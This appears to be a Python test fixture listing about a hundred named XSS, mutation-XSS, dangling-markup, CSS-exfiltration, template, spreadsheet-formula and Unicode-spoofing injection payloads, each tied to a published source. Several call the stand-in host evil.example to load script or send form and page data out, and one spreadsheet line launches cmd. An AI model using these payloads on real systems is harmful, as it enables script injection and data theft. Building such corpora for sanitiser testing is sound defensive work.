"""Named classes of script and markup injection, with what each is known from. The payloads are our own.

`fire()` is what a payload calls when it runs; the host `evil.example` stands for the attacker's. `where` says which way of
putting a text into a page without care lets the class work: that is what the control page does.
"""

# ruff: noqa: E501  # one class a line

from dataclasses import dataclass
from typing import Final, Literal

Where = Literal["body", "attribute", "unquoted", "link", "frame", "script", "style", "htmx", "text"]
"""`text`: works in no browser by itself (a spreadsheet, a reader's eye): that it is shown as it stands is all there is to see."""
Effect = Literal["script", "request", "none"]

OWASP: Final = "OWASP XSS Filter Evasion Cheat Sheet"
PORTSWIGGER: Final = "PortSwigger Cross-site scripting cheat sheet"
H5SC: Final = "HTML5 Security Cheatsheet (html5sec.org)"
HTML: Final = "HTML Living Standard"
SVG: Final = "Heiderich et al., Crouching Tiger - Hidden Payload: Security Risks of SVG, CCS 2011"
MXSS: Final = "Heiderich et al., mXSS Attacks, CCS 2013"
NAMESPACES: Final = "Bentkowski, Mutation XSS via namespace confusion, 2020"
SCRIPTLESS: Final = "Heiderich et al., Scriptless Attacks, CCS 2012"
DANGLING: Final = "Zalewski, Postcards from the post-XSS world, 2011"
CLOBBERING: Final = "Khodayari and Pellegrino, It's (DOM) Clobbering Time, S&P 2023"
TEMPLATES: Final = "Kettle, Server-Side Template Injection, 2015"
CLIENT_TEMPLATES: Final = "Heyes, XSS without HTML: Client-Side Template Injection, 2016"
PROTOTYPES: Final = "Arteau, Prototype pollution attack in NodeJS application, 2018"
EFAIL: Final = "Poddebniak et al., Efail, USENIX Security 2018"
JOHNNY: Final = "Müller et al., Re: What's Up Johnny?, ACNS 2019"
TROJAN: Final = "Boucher and Anderson, Trojan Source, 2021"
UNICODE: Final = "Unicode Technical Report 36, Unicode Security Considerations"
CSV: Final = "OWASP CSV Injection"
HTMX: Final = "htmx documentation, Security"


@dataclass(frozen=True, slots=True)
class Injection:
    name: str
    source: str
    where: Where
    effect: Effect
    payload: str


_EVIL: Final = "https://evil.example"
_I: Final = Injection

INJECTIONS: Final = (
    _I("script element", OWASP, "body", "script", "<script>fire()</script>"),
    _I("script element in mixed case with a blank", OWASP, "body", "script", "<ScRiPt >fire()</sCrIpT >"),
    _I("script from elsewhere", OWASP, "body", "request", f"<script src={_EVIL}/x.js></script>"),
    _I("script from elsewhere without a scheme", OWASP, "body", "request", "<script src=//evil.example/y.js></script>"),
    _I("script within a script, for filters that delete once", OWASP, "body", "none", "<scr<script>ipt>fire()</scr</script>ipt>"),
    _I("module script", HTML, "body", "script", "<script type=module>fire()</script>"),
    _I("end of a title before a script", OWASP, "body", "script", "</title></textarea><script>fire()</script>"),
    _I("end of a comment before a script", OWASP, "body", "script", "<!--><script>fire()</script>-->"),
    _I("error of an image", OWASP, "body", "script", "<img src=x onerror=fire()>"),
    _I("error of an image, slashes for blanks", OWASP, "body", "script", "<img/src=\"x\"/onerror=fire()>"),
    _I("handler as entities", OWASP, "body", "script", "<img src=x onerror=&#102;&#x69;re&lpar;&rpar;>"),
    _I("handler in back quotes", OWASP, "body", "script", "<img src=x onerror=fire`1`>"),
    _I("handler behind a line feed and a tab", OWASP, "body", "script", "<img src=x\n\tonerror\n=\tfire()>"),
    _I("tag that is never closed", OWASP, "body", "script", "<img src=x onerror=fire() x="),
    _I("double angle bracket", OWASP, "body", "script", "<<img src=x onerror=fire()>"),
    _I("element of no standard with focus", PORTSWIGGER, "body", "script", "<xss tabindex=1 autofocus onfocus=fire()>x</xss>"),
    _I("focus of a field that takes it by itself", PORTSWIGGER, "body", "script", "<input autofocus onfocus=fire()>"),
    _I("toggle of details", PORTSWIGGER, "body", "script", "<details open ontoggle=fire()>x</details>"),
    _I("animation that begins", PORTSWIGGER, "body", "script", "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=fire()>x</b>"),
    _I("marquee", H5SC, "body", "none", "<marquee onstart=fire()>x</marquee>"),
    _I("source of a video", H5SC, "body", "script", "<video><source onerror=fire()></video>"),
    _I("audio that fails", H5SC, "body", "script", "<audio src=x onerror=fire()></audio>"),
    _I("body with a handler", OWASP, "body", "script", "<body onpageshow=fire()>"),
    _I("pointer over a text", OWASP, "body", "script", "<b onmouseover=fire()>read me</b>"),
    _I("SVG that loads", SVG, "body", "script", "<svg onload=fire()>"),
    _I("script in SVG", SVG, "body", "script", "<svg><script>fire()</script></svg>"),
    _I("script in SVG as entities", SVG, "body", "script", "<svg><script>&#102;ire()</script></svg>"),
    _I("SVG animation", SVG, "body", "script", "<svg><animate attributeName=x dur=1s onbegin=fire()></svg>"),
    _I("SVG animation of a link", SVG, "body", "script", "<svg><a><animate attributeName=href values=javascript:fire()></animate><text x=9 y=20>x</text></a></svg>"),
    _I("SVG image as a file in an image", SVG, "body", "none", "<img src=\"data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='parent.fire()'/%3E\">"),
    _I("SVG of elsewhere in use", SVG, "body", "request", f"<svg><image href={_EVIL}/i.png></svg>"),
    _I("MathML link", H5SC, "body", "none", "<math><mtext href=javascript:fire()>x</mtext></math>"),
    _I("frame with a document of its own", HTML, "body", "script", "<iframe srcdoc='<script>fire()</script>'></iframe>"),
    _I("frame with a document as entities", HTML, "body", "script", "<iframe srcdoc=&lt;img/src=x&#32;onerror=fire()&gt;></iframe>"),
    _I("frame with a script as its address", OWASP, "body", "script", "<iframe src=javascript:fire()></iframe>"),
    _I("frame of elsewhere", OWASP, "body", "request", f"<iframe src={_EVIL}/frame></iframe>"),
    _I("object with a page in its address", OWASP, "body", "request", f"<object data={_EVIL}/o.html></object>"),
    _I("embed", OWASP, "body", "request", f"<embed src={_EVIL}/e.html type=text/html>"),
    _I("link with a script", OWASP, "link", "script", "javascript:fire()"),
    _I("link with a script in mixed case behind controls", OWASP, "link", "script", "\x01 jAvAsCrIpT:fire()"),
    _I("link with a script cut by a tab", OWASP, "link", "script", "java\tscript:fire()"),
    _I("link with a script as entities", OWASP, "link", "script", "&#106;avascript&colon;fire()"),
    _I("link with a script behind a false comment", OWASP, "link", "script", "javascript://shop.example/%0afire()"),
    _I("page in an address", OWASP, "frame", "script", "data:text/html,<script>fire()</script>"),
    _I("page in an address, base64", OWASP, "frame", "script", "data:text/html;base64,PHNjcmlwdD5maXJlKCk8L3NjcmlwdD4="),
    _I("form with a script as its action", H5SC, "body", "script", "<form action=javascript:fire()><input type=submit id=x></form>"),
    _I("button that changes where a form goes", H5SC, "body", "script", "<form id=g></form><button form=g formaction=javascript:fire()>x</button>"),
    _I("form that goes elsewhere", H5SC, "body", "request", f"<form action={_EVIL}/take><input name=password><input type=submit></form>"),
    _I("out of an attribute into a handler", OWASP, "attribute", "script", "\" autofocus onfocus=fire() x=\""),
    _I("out of an attribute into an element", OWASP, "attribute", "script", "\"><img src=x onerror=fire()>"),
    _I("out of an attribute without quotes", OWASP, "unquoted", "script", "x onfocus=fire() autofocus"),
    _I("out of a string of a script", OWASP, "script", "script", "\";fire();//"),
    _I("out of a script that holds the text", OWASP, "script", "script", "</script><script>fire()</script>"),
    _I("out of a template string", PORTSWIGGER, "script", "none", "${fire()}"),
    _I("line separator within a string", PORTSWIGGER, "script", "none", "\u2028fire()//"),
    _I("mutation: noscript in a title", MXSS, "body", "script", "<noscript><p title=\"</noscript><img src=x onerror=fire()>\"></noscript><img src=y onerror=fire()>"),
    _I("mutation: style in a namespace", NAMESPACES, "body", "script", "<svg></p><style><a title=\"</style><img src=x onerror=fire()>\"></svg>"),
    _I("mutation: forms in forms", NAMESPACES, "body", "script", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=fire()>"),
    _I("mutation: table in MathML", NAMESPACES, "body", "script", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=fire()&gt;\" src=x onerror=fire()>"),
    _I("mutation: back quotes around an attribute", MXSS, "body", "script", "<img alt=\"``onerror=fire()\" src=x onerror=fire()>"),
    _I("mutation: list in XMP", MXSS, "body", "script", "<xmp><p title=\"</xmp><svg/onload=fire()>\">"),
    _I("style sheet of elsewhere", OWASP, "body", "request", f"<link rel=stylesheet href={_EVIL}/x.css>"),
    _I("import in a style", OWASP, "body", "request", f"<style>@import '{_EVIL}/i.css';</style>"),
    _I("selector that tells what a field holds", SCRIPTLESS, "body", "request", f"<style>input[value^='A']{{background:url({_EVIL}/?a)}}</style><input value=A>"),
    _I("font that tells which letters there are", SCRIPTLESS, "body", "request", f"<style>@font-face{{font-family:f;src:url({_EVIL}/?A);unicode-range:U+41}}b{{font-family:f}}</style><b>A</b>"),
    _I("background in an attribute", OWASP, "body", "request", f"<div style=\"background:url({_EVIL}/bg)\">x</div>"),
    _I("out of a style rule", SCRIPTLESS, "style", "request", f"red;background:url({_EVIL}/s)"),
    _I("out of a style element", SCRIPTLESS, "style", "script", "</style><img src=x onerror=fire()>"),
    _I("picture that tells who reads", EFAIL, "body", "request", f"<img src={_EVIL}/pixel.gif>"),
    _I("set of pictures", EFAIL, "body", "request", f"<img srcset=\"{_EVIL}/2x.png 2x, {_EVIL}/1x.png\">"),
    _I("picture element", EFAIL, "body", "request", f"<picture><source srcset={_EVIL}/p.webp><img alt=x></picture>"),
    _I("background of a table", EFAIL, "body", "request", f"<table background={_EVIL}/table.png><tr><td>x</table>"),
    _I("poster of a video", EFAIL, "body", "request", f"<video poster={_EVIL}/poster.png></video>"),
    _I("track of a video", EFAIL, "body", "request", f"<video src={_EVIL}/v.mp4></video><audio src={_EVIL}/a.mp3 preload=auto></audio>"),
    _I("image field", EFAIL, "body", "request", f"<input type=image src={_EVIL}/b.png>"),
    _I("prefetched page", EFAIL, "body", "request", f"<link rel=preload as=image href={_EVIL}/pre>"),
    _I("icon", EFAIL, "body", "none", f"<link rel=icon href={_EVIL}/fav.ico>"),
    _I("ping of a link", EFAIL, "body", "request", f"<a href=#x ping={_EVIL}/ping>x</a>"),
    _I("list in CSS", JOHNNY, "body", "request", f"<ul style=\"list-style:url({_EVIL}/li)\"><li>x</ul>"),
    _I("style that draws over the page", JOHNNY, "body", "none", "<div style=\"position:fixed;inset:0;z-index:99;background:#fff\">Log in again</div>"),
    _I("refresh of the page", OWASP, "body", "request", f"<meta http-equiv=refresh content=\"0;url={_EVIL}/go\">"),
    _I("refresh into a page of its own", OWASP, "body", "none", "<meta http-equiv=refresh content=\"0;url=data:text/html,<script>fire()</script>\">"),
    _I("base of all addresses", OWASP, "body", "request", f"<base href={_EVIL}/><img src=rel.png>"),
    _I("policy that forbids our own scripts", HTML, "body", "none", "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">"),
    _I("dangling image that swallows what follows", DANGLING, "body", "request", f"<img src='{_EVIL}/take?"),
    _I("dangling text area", DANGLING, "body", "none", f"<form action={_EVIL}/take><textarea name=rest>"),
    _I("dangling target", DANGLING, "body", "none", f"<a href={_EVIL}/take>x</a><base target='"),
    _I("plain text to the end", H5SC, "body", "none", "<plaintext>"),
    _I("clobbered global", CLOBBERING, "body", "none", "<a id=htmx><a id=htmx name=config href=cid:x></a>"),
    _I("clobbered document", CLOBBERING, "body", "none", "<img name=querySelectorAll><img name=body><form name=documentElement><input name=lang></form>"),
    _I("clobbered token", CLOBBERING, "body", "none", "<meta name=csrf content=x><input name=csrf value=x>"),
    _I("name of a prototype", PROTOTYPES, "text", "none", "__proto__"),
    _I("path of a prototype", PROTOTYPES, "text", "none", "constructor[prototype][innerHTML]=<img/src=x/onerror=fire()>"),
    _I("template of the server", TEMPLATES, "text", "none", "{{7*7}}{% for x in [1] %}{{ cycler.__init__.__globals__ }}{% endfor %}{# #}${7*7}<%= 7*7 %>"),
    _I("template of the browser", CLIENT_TEMPLATES, "text", "none", "{{constructor.constructor('fire()')()}}"),
    _I("attribute that htmx acts on", HTMX, "htmx", "none", f"<div hx-get={_EVIL}/hx hx-trigger=load></div>"),
    _I("handler of htmx", HTMX, "htmx", "script", "<div hx-on:mouseover=fire()>x</div>"),
    _I("handler of htmx by data attributes", HTMX, "htmx", "script", "<div data-hx-on:mouseover=fire()>x</div>"),
    _I("formula of a spreadsheet", CSV, "text", "none", f"=HYPERLINK(\"{_EVIL}/?\"&A1,\"open\")"),
    _I("command of a spreadsheet", CSV, "text", "none", "@SUM(1+1)*cmd|' /C calc'!A0"),
    _I("right-to-left override in a file name", TROJAN, "text", "none", "invoice_\u202egpj.exe"),
    _I("isolates that reorder a line", TROJAN, "text", "none", "a\u2066\u2067<b>\u2069 b\u2069 admin"),
    _I("angle brackets of other widths", UNICODE, "text", "none", "\uff1cscript\uff1efire()\uff1c/script\uff1e\u2039img\u203a"),
    _I("overlong and half characters", UNICODE, "text", "none", "%C0%BCscript%C0%BEfire() &#x0000003C;script&#x3e;"),
    _I("UTF-7", OWASP, "text", "none", "+ADw-script+AD4-fire()+ADw-/script+AD4-"),
)  # fmt: skip
